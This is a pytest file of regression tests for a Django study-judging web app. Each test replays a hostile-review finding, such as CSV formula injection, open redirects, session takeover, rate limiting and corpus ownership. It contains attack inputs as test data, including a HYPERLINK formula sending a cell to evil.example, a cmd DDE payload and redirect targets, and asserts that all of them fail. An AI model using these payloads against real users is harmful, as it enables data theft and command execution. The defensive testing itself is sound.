"""The hostile review's findings (issue 13), each replayed over HTTP as it was found.

Every test here failed on the code before the fix it names; the judges and researchers
are Django test clients, so cookies, redirects and status codes are the real ones.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client
from django.urls import reverse

from studies.models import Judge
from tests.factories import TEST_MODELS
from tests.webapp.test_judge_flow import answer_all, finish_closing, walk_to_items


@pytest.fixture(autouse=True)
def _test_models(monkeypatch):
    monkeypatch.setattr("studies.registry.registry_models", lambda: dict(TEST_MODELS))
    monkeypatch.setattr("studies.services.studies._models_or_none", lambda: dict(TEST_MODELS))


@pytest.fixture
def alice(django_user_model):
    return django_user_model.objects.create_user("alice", password="pw-alice-123")


@pytest.fixture
def bob(django_user_model):
    return django_user_model.objects.create_user("bob", password="pw-bob-123")


@pytest.fixture
def client_a(alice):
    client = Client()
    client.force_login(alice)
    return client


def _own(study, user):
    study.owner = user
    study.save(update_fields=["owner"])
    return study


def _complete(client: Client, study, **closing):
    response = walk_to_items(client, study.slug)
    response, _ = answer_all(client, study.slug, study.protocol, response)
    return finish_closing(client, study.slug, **closing)


# --- 7: CSV formula injection -------------------------------------------------------------


def test_closing_comment_formula_is_escaped_in_judges_csv(make_live_study, alice, client_a):
    study = _own(make_live_study(), alice)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _complete(Client(), study, comments=formula)
    _complete(Client(), study, comments="+1 great", seen_before="no")
    body = client_a.get(
        reverse("dashboard:export-file", args=[study.slug, "judges.csv"])
    ).content.decode()
    comments = [row["closing_comments"] for row in csv.DictReader(io.StringIO(body))]
    assert sorted(comments) == sorted(["'" + formula, "'+1 great"])
    # Numbers stay numbers: no cell of a numeric column gained a quote.
    responses = client_a.get(
        reverse("dashboard:export-file", args=[study.slug, "responses.csv"])
    ).content.decode()
    assert all(not row["rating"].startswith("'") for row in csv.DictReader(io.StringIO(responses)))


# --- 9: open redirect ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/phish",
        "//evil.example/x",
        "/\\evil.example",
        "/accounts/logout/",
        "/dashboard/other-study/review/",
    ],
)
def test_exclusion_form_never_redirects_off_the_study(make_study, alice, client_a, target):
    study = _own(make_study(), alice)
    review = reverse("dashboard:review", args=[study.slug])
    for data in ({"next": target}, {"next": target, "article": "x", "reason": "too short"}):
        response = client_a.post(reverse("dashboard:exclude", args=[study.slug]), data)
        assert response.status_code == 302
        assert response["Location"] == review


def test_exclusion_form_keeps_a_dashboard_next(make_study, alice, client_a):
    study = _own(make_study(), alice)
    target = f"/dashboard/{study.slug}/review/?page=2&show=all"
    response = client_a.post(reverse("dashboard:exclude", args=[study.slug]), {"next": target})
    assert response["Location"] == target


# --- 5: exclude_judges_from only names the creator's studies -----------------------------


def test_exclude_judges_from_refuses_another_researchers_study(make_study, alice, bob):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from studies.models import Study
    from tests.factories import spec_text

    _own(make_study(slug="alices-study"), alice)
    client_b = Client()
    client_b.force_login(bob)
    for target in ("alices-study", "no-such-study"):
        upload = SimpleUploadedFile(
            "s.toml", spec_text(slug="probe", exclude_judges_from=[target]).encode()
        )
        response = client_b.post(reverse("dashboard:study-upload"), {"spec_file": upload})
        assert response.status_code == 400
        assert f"you have no study called &#x27;{target}&#x27;" in response.content.decode()
        assert not Study.objects.filter(slug="probe").exists()
    # Bob's own earlier study is fine.
    _own(make_study(slug="bobs-pilot"), bob)
    upload = SimpleUploadedFile(
        "s.toml", spec_text(slug="probe", exclude_judges_from=["bobs-pilot"]).encode()
    )
    assert (
        client_b.post(reverse("dashboard:study-upload"), {"spec_file": upload}).status_code == 302
    )


# --- 10: health, pseudonym salt, rounded times --------------------------------------------


def test_health_tells_anonymous_callers_only_ok_or_failing(client, admin_client, db, settings):
    settings.CELERY_BROKER_URL = "redis://127.0.0.1:1/0"  # nothing listens: an error to hide
    anonymous = client.get("/health")
    assert anonymous.status_code == 200
    body = anonymous.json()
    assert body["status"] == "ok" and set(body) == {"ok", "status", "judging", "background_work"}
    assert "127.0.0.1" not in anonymous.content.decode()
    staff = admin_client.get("/health").json()
    assert not staff["broker"]["ok"] and "error" in staff["broker"]


def test_judges_csv_times_are_rounded_to_the_minute(make_live_study, alice, client_a):
    study = _own(make_live_study(), alice)
    _complete(Client(), study)
    body = client_a.get(
        reverse("dashboard:export-file", args=[study.slug, "judges.csv"])
    ).content.decode()
    (row,) = csv.DictReader(io.StringIO(body))
    judge = Judge.objects.get()
    for field in ("started_at", "completed_at"):
        assert row[field].endswith(":00+00:00")
        exact = getattr(judge, field)
        assert row[field] == exact.replace(second=0, microsecond=0).isoformat()


# --- 6: bad input: bounds, named atomic import errors, scalar ids, capped uploads ----------


def _upload_spec(client, **overrides):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.factories import spec_text

    upload = SimpleUploadedFile("s.toml", spec_text(**overrides).encode())
    return client.post(reverse("dashboard:study-upload"), {"spec_file": upload})


@pytest.mark.parametrize(
    "overrides, message",
    [
        (
            {"conditions": [{"name": "a", "model": "model-small", "params": 10**20}]},
            "params: must be at most",
        ),
        ({"expiry_minutes": 10**10}, "expiry_minutes: must be at most"),
        ({"judges_per_list": 10**19}, "judges_per_list: must be at most"),
        ({"min_length_ratio": float("nan")}, "must be a finite number"),
        ({"attention_checks": {"count": 1, "positions": [10**30]}}, "positions"),
    ],
)
def test_spec_numbers_out_of_range_are_named_not_500s(client_a, corpus, overrides, message):
    from studies.models import Study

    response = _upload_spec(client_a, slug="huge", **overrides)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Study.objects.filter(slug="huge").exists()


def _uploads(settings) -> list:
    root = settings.VAR_DIR / "uploads"
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def _upload_corpus(client, name: str, filename: str, content: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile(filename, content)
    return client.post(reverse("dashboard:corpus-upload"), {"name": name, "file": upload})


GOOD_LINE = json.dumps({"id": "a1", "title": "T", "body": "First one. Then the rest."})


@pytest.mark.parametrize(
    "filename, content, message",
    [
        (
            "big.csv",
            ("id,title,body\nx,T," + "w" * 140_000 + "\n").encode(),
            "unreadable CSV: field larger than field limit",
        ),
        ("deep.jsonl", ("[" * 200_000 + "]" * 200_000).encode(), "nested too deeply"),
        (
            "obj.jsonl",
            json.dumps({"id": {"a": 1}, "title": "T", "body": "One. Two."}).encode(),
            "field &#x27;id&#x27; must be text or a whole number",
        ),
        (
            "long.jsonl",
            json.dumps({"id": "k" * 300, "title": "T", "body": "One. Two."}).encode(),
            "longer than 200 characters",
        ),
        (
            "nan.jsonl",
            b'{"id": "n", "title": "T", "body": "One. Two.", "score": NaN}',
            "NaN is not a JSON value",
        ),
    ],
)
def test_corpus_upload_refusals_are_named_and_leave_nothing(
    client_a, settings, tmp_path, filename, content, message
):
    from studies.models import Article, Corpus

    settings.VAR_DIR = tmp_path
    response = _upload_corpus(client_a, "mine", filename, GOOD_LINE.encode() + b"\n" + content)
    if filename.endswith(".csv"):
        response = _upload_corpus(client_a, "mine", filename, content)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Corpus.objects.filter(name="mine").exists() and not Article.objects.exists()
    assert _uploads(settings) == []


def test_corpus_upload_over_the_cap_is_refused_and_not_kept(client_a, settings, tmp_path):
    from studies.models import Corpus

    settings.VAR_DIR = tmp_path
    settings.NEWSEVAL_UPLOAD_MAX_BYTES = 4096
    lines = [
        json.dumps({"id": f"a{i}", "title": "T", "body": f"First {i}. Then more."})
        for i in range(200)
    ]
    response = _upload_corpus(client_a, "mine", "many.jsonl", "\n".join(lines).encode())
    assert response.status_code == 400
    assert "larger than the upload limit of 4 kB" in response.content.decode()
    assert not Corpus.objects.filter(name="mine").exists() and _uploads(settings) == []
    small = _upload_corpus(client_a, "mine", "few.jsonl", "\n".join(lines[:5]).encode())
    assert small.status_code == 302
    assert Corpus.objects.get(name="mine").articles.count() == 5


def test_answer_weeks_after_serving_is_stored_clamped(make_live_study):
    import datetime as dt

    from studies.models import JudgeItem
    from studies.services.judging import MAX_STORED_MS
    from tests.webapp.test_judge_flow import answer_payload, item_token

    study = make_live_study(expiry_minutes=60 * 24 * 7)
    client = Client()
    page = walk_to_items(client, study.slug)
    token = item_token(page)
    served = JudgeItem.objects.get(token=token)
    JudgeItem.objects.filter(pk=served.pk).update(
        served_at=served.served_at - dt.timedelta(days=25)
    )
    Judge.objects.update(last_seen_at=served.served_at)
    response = client.post(f"/take/{study.slug}/item/", answer_payload("single", token, 0))
    assert response.status_code == 303
    stored = JudgeItem.objects.get(pk=served.pk)
    assert stored.server_ms == MAX_STORED_MS and stored.visible_ms <= MAX_STORED_MS


# --- 1: session takeover by platform id ----------------------------------------------------

PROLIFIC = {"platform": "prolific", "completion_code": "C0DE"}


def test_a_second_browser_cannot_take_over_a_prolific_session(make_live_study):
    from studies.models import AuditEvent
    from tests.webapp.test_judge_flow import answer_payload, item_token

    study = make_live_study(recruitment=PROLIFIC)
    victim = Client()
    page = walk_to_items(victim, study.slug, PROLIFIC_PID="VICTIM", STUDY_ID="s", SESSION_ID="v1")
    token = item_token(page)
    victim.post(f"/take/{study.slug}/item/", answer_payload("single", token, 0))
    judge = Judge.objects.get()
    cookie = victim.cookies["newseval_judge"].value
    assert judge.token not in cookie and judge.session_key in cookie

    attacker = Client()
    response = attacker.get(
        f"/take/{study.slug}/", {"PROLIFIC_PID": "VICTIM", "STUDY_ID": "s", "SESSION_ID": "evil"}
    )
    assert response.status_code == 409
    assert "already open in another browser" in response.content.decode()
    assert "newseval_judge" not in response.cookies
    item = attacker.get(f"/take/{study.slug}/item/")
    assert item.status_code == 302 and item["Location"] == f"/take/{study.slug}/"
    judge.refresh_from_db()
    assert judge.platform_meta["SESSION_ID"] == "v1" and Judge.objects.count() == 1
    assert AuditEvent.objects.filter(study=study, action="entry_elsewhere").count() == 1
    # The participant's own browser goes on where it was.
    again = victim.get(f"/take/{study.slug}/", {"PROLIFIC_PID": "VICTIM", "SESSION_ID": "v2"})
    assert again["Location"] == f"/take/{study.slug}/item/"


def test_mturk_submit_details_are_never_overwritten_by_another_browser(make_live_study):
    study = make_live_study(recruitment={"platform": "mturk"})
    params = {
        "assignmentId": "A1",
        "workerId": "W1",
        "hitId": "H1",
        "turkSubmitTo": "https://workersandbox.mturk.com",
    }
    worker = Client()
    assert worker.get(f"/take/{study.slug}/", params).status_code == 200
    attacker = Client()
    forged = {**params, "assignmentId": "EVIL", "turkSubmitTo": "https://www.mturk.com"}
    response = attacker.get(f"/take/{study.slug}/", forged)
    assert response.status_code == 409
    assert "launch" not in response.content.decode()  # no signed link into the session
    meta = Judge.objects.get().platform_meta
    assert meta["assignmentId"] == "A1" and meta["turkSubmitTo"] == params["turkSubmitTo"]


# --- 2: entry limit by address; places held briefly until consent --------------------------


def test_made_up_ids_from_one_address_cannot_fill_the_study(make_live_study, settings):
    import datetime as dt

    from django.utils import timezone

    settings.NEWSEVAL_ENTRY_RATE = "20/m"
    study = make_live_study(recruitment=PROLIFIC, judges_per_list=2)
    assert sum(study.lists.values_list("quota", flat=True)) < 20
    codes = [
        Client().get(f"/take/{study.slug}/", {"PROLIFIC_PID": f"FAKE{n}"}).status_code
        for n in range(30)
    ]
    assert codes.count(429) == 10 and codes[:20] == [302] * 20
    real = Client(REMOTE_ADDR="203.0.113.7")
    first = real.get(f"/take/{study.slug}/", {"PROLIFIC_PID": "REAL"}, follow=True)
    assert "This study is full" in first.content.decode()  # the fakes hold the places...
    # ...for a few minutes only: none of them consented.
    held = timezone.now() - dt.timedelta(minutes=settings.NEWSEVAL_UNCONSENTED_MINUTES + 1)
    Judge.objects.exclude(external_id="REAL").update(last_seen_at=held)
    late = Client(REMOTE_ADDR="203.0.113.8")
    page = late.get(f"/take/{study.slug}/", {"PROLIFIC_PID": "REAL2"}, follow=True)
    assert page.redirect_chain[-1][0] == f"/take/{study.slug}/consent/"


def test_consented_judges_keep_their_place(make_live_study, settings):
    import datetime as dt

    from django.db.models import Sum
    from django.utils import timezone

    study = make_live_study(recruitment=PROLIFIC, judges_per_list=1)
    places = study.lists.aggregate(n=Sum("quota"))["n"]
    for n in range(places):
        walk_to_items(Client(REMOTE_ADDR=f"198.51.100.{n}"), study.slug, PROLIFIC_PID=f"P{n}")
    reading = timezone.now() - dt.timedelta(minutes=settings.NEWSEVAL_UNCONSENTED_MINUTES + 1)
    Judge.objects.update(last_seen_at=reading)  # slow readers, still inside expiry_minutes
    late = Client(REMOTE_ADDR="198.51.100.9")
    page = late.get(f"/take/{study.slug}/", {"PROLIFIC_PID": "LATE"}, follow=True)
    assert "This study is full" in page.content.decode()


def test_entry_limit_reads_the_proxy_hop_only_behind_a_proxy(make_live_study, settings):
    settings.NEWSEVAL_ENTRY_RATE = "1/m"
    study = make_live_study()
    url = f"/take/{study.slug}/"

    def enter(forwarded: str) -> int:
        return Client(REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR=forwarded).post(url).status_code

    settings.BEHIND_TLS_PROXY = True
    assert enter("192.0.2.1") == 302
    assert enter("192.0.2.2") == 302  # another participant behind the same proxy
    assert enter("6.6.6.6, 192.0.2.1") == 429  # a forged first hop changes nothing
    settings.BEHIND_TLS_PROXY = False
    assert enter("192.0.2.3") == 302  # REMOTE_ADDR 10.0.0.1: its first entry
    assert enter("192.0.2.4") == 429  # the header is ignored without a proxy


# --- 8: researcher sessions ---------------------------------------------------------------


def test_logout_ends_a_copied_session_and_sessions_idle_out(alice, settings):
    browser = Client()
    response = browser.post("/accounts/login/", {"username": "alice", "password": "pw-alice-123"})
    assert response.status_code == 302
    cookie = browser.cookies["sessionid"]
    assert int(cookie["max-age"]) == settings.SESSION_COOKIE_AGE <= 8 * 3600
    assert settings.SESSION_SAVE_EVERY_REQUEST  # the age counts from the last request
    copy = Client()
    copy.cookies["sessionid"] = cookie.value
    assert copy.get("/dashboard/").status_code == 200
    browser.post("/accounts/logout/")
    assert copy.get("/dashboard/").status_code == 302


def test_login_is_throttled_and_locked_out_with_a_log_line(settings, django_user_model, caplog):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]  # fast
    django_user_model.objects.create_user("alice", password="pw-alice-123")
    browser = Client()
    for n in range(settings_failure_limit()):
        browser.post("/accounts/login/", {"username": "alice", "password": f"wrong-{n}"})
    locked = browser.post("/accounts/login/", {"username": "alice", "password": "pw-alice-123"})
    assert locked.status_code == 429
    assert "_auth_user_id" not in browser.session
    assert any("AXES: Locking out" in r.getMessage() for r in caplog.records)
    # Another address is not locked out with the attacker.
    other = Client(REMOTE_ADDR="192.0.2.55")
    ok = other.post("/accounts/login/", {"username": "alice", "password": "pw-alice-123"})
    assert ok.status_code == 302


def settings_failure_limit() -> int:
    from django.conf import settings

    return settings.AXES_FAILURE_LIMIT


# --- 4: closing and pausing never strand admitted judges ----------------------------------


def test_admitted_judges_finish_after_a_close_and_get_their_code(make_live_study):
    from studies.services.studies import study_transition
    from tests.webapp.test_judge_flow import answer_payload, item_token

    study = make_live_study(recruitment={"platform": "link", "completion_code": "DONE42"})
    done_items, midway = Client(), Client()
    response = walk_to_items(done_items, study.slug)
    response, _ = answer_all(done_items, study.slug, "single", response)
    assert response.redirect_chain[-1][0] == f"/take/{study.slug}/closing/"
    page = walk_to_items(midway, study.slug)
    study_transition(study=study, action="close")

    finished = finish_closing(done_items, study.slug)
    assert finished.redirect_chain[-1][0] == f"/take/{study.slug}/debrief/"
    assert finished.status_code == 200 and "DONE42" in finished.content.decode()
    # A judge halfway through answers the rest and completes too.
    token = item_token(midway.get(f"/take/{study.slug}/item/"))
    assert token == item_token(page)
    response = midway.post(
        f"/take/{study.slug}/item/", answer_payload("single", token, 1), follow=True
    )
    response, _ = answer_all(midway, study.slug, "single", response)
    assert "DONE42" in finish_closing(midway, study.slug).content.decode()
    assert Judge.objects.filter(status=Judge.Status.COMPLETED).count() == 2
    # Nobody new is admitted.
    late = Client().post(f"/take/{study.slug}/", follow=True)
    assert late.status_code == 410 and Judge.objects.count() == 2


def test_an_answer_sent_during_a_pause_is_kept_and_the_page_says_so(make_live_study):
    from studies.models import JudgeItem
    from studies.services.studies import study_transition
    from tests.webapp.test_judge_flow import answer_payload, item_token

    study = make_live_study()
    judge_client = Client()
    token = item_token(walk_to_items(judge_client, study.slug))
    study_transition(study=study, action="pause")
    response = judge_client.post(
        f"/take/{study.slug}/item/", answer_payload("single", token, 0), follow=True
    )
    assert response.status_code == 503
    body = response.content.decode()
    assert "paused" in body and "has been saved" in body
    assert JudgeItem.objects.get(token=token).answered_at is not None
    # While paused, nothing new is served.
    assert judge_client.get(f"/take/{study.slug}/item/").status_code == 503
    study_transition(study=study, action="resume")
    assert item_token(judge_client.get(f"/take/{study.slug}/item/")) != token


# --- 11: the admin leaves launched studies alone; status goes through the services --------


def test_admin_cannot_edit_a_launched_study_and_closes_through_the_service(
    make_live_study, admin_client, admin_user
):
    from studies.models import AuditEvent, Study

    study = make_live_study()
    url = reverse("admin:studies_study_change", args=[study.pk])
    form = admin_client.get(url)
    assert form.status_code == 200
    admin_client.post(
        url, {"slug": "renamed", "title": "Changed", "status": "closed", "protocol": "paired"}
    )
    fresh = Study.objects.get(pk=study.pk)
    assert (fresh.slug, fresh.title, fresh.status, fresh.protocol) == (
        study.slug,
        study.title,
        "live",
        "single",
    )
    assert (
        admin_client.post(
            reverse("admin:studies_study_delete", args=[study.pk]), {"post": "yes"}
        ).status_code
        == 403
    )
    admin_client.post(
        reverse("admin:studies_study_changelist"),
        {"action": "close_studies", "_selected_action": [study.pk]},
    )
    assert Study.objects.get(pk=study.pk).status == "closed"
    assert AuditEvent.objects.filter(study=study, action="close", actor=admin_user).exists()
    event = AuditEvent.objects.filter(study=study).first()
    change = reverse("admin:studies_auditevent_change", args=[event.pk])
    admin_client.post(change, {"action": "forged"})
    assert AuditEvent.objects.get(pk=event.pk).action == event.action


# --- 3: corpora belong to researchers ------------------------------------------------------


def _articles(n: int, prefix: str) -> bytes:
    lines = [
        json.dumps(
            {
                "id": f"{prefix}{i}",
                "title": f"Title {prefix} {i}",
                "body": f"Lead sentence {i}. " + " ".join(["Words of the body here."] * 40),
            }
        )
        for i in range(n)
    ]
    return "\n".join(lines).encode()


def test_researchers_cannot_change_each_others_corpora(alice, bob, client_a, settings, tmp_path):
    from studies.models import Corpus, Study

    settings.VAR_DIR = tmp_path
    client_b = Client()
    client_b.force_login(bob)
    assert _upload_corpus(client_a, "mine", "a.jsonl", _articles(10, "a")).status_code == 302
    # Bob uploads under the same name: his own corpus, Alice's is untouched.
    assert _upload_corpus(client_b, "mine", "b.jsonl", _articles(12, "b")).status_code == 302
    alices = Corpus.objects.get(name="mine", owner=alice)
    bobs = Corpus.objects.get(name="mine", owner=bob)
    assert alices.articles.count() == 10 and bobs.articles.count() == 12
    assert not alices.articles.filter(key__startswith="b").exists()
    # A spec naming "mine" means its creator's corpus.
    assert _upload_spec(client_a, slug="alices", corpus="mine").status_code == 302
    assert _upload_spec(client_b, slug="bobs", corpus="mine").status_code == 302
    assert Study.objects.get(slug="alices").corpus == alices
    assert Study.objects.get(slug="bobs").corpus == bobs
    # A third researcher sees neither, in the form or in a spec.
    carol = Client()
    from django.contrib.auth import get_user_model

    carol.force_login(get_user_model().objects.create_user("carol", password="pw-carol-123"))
    assert 'value="mine"' not in carol.get(reverse("dashboard:study-new")).content.decode()
    refused = _upload_spec(carol, slug="carols", corpus="mine")
    assert refused.status_code == 400 and "is not imported" in refused.content.decode()
    # Sharing a study shares its corpus, so the shared researcher can copy the study.
    client_a.post(reverse("dashboard:sharing", args=["alices"]), {"username": "carol"})
    assert alices.shared_with.filter(username="carol").exists()


def test_csv_cells_escape_formulas_but_keep_numbers_written_as_text():
    from studies.services.exports import csv_cell

    for number in ("-3.391274237051549", "-12", "+0.5", "-1e-05", "-.5"):
        assert csv_cell(number) == number, "a negative score is data"
    for formula in ("-1+2", "-A1", "=1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-", "\t1"):
        assert csv_cell(formula) == "'" + formula
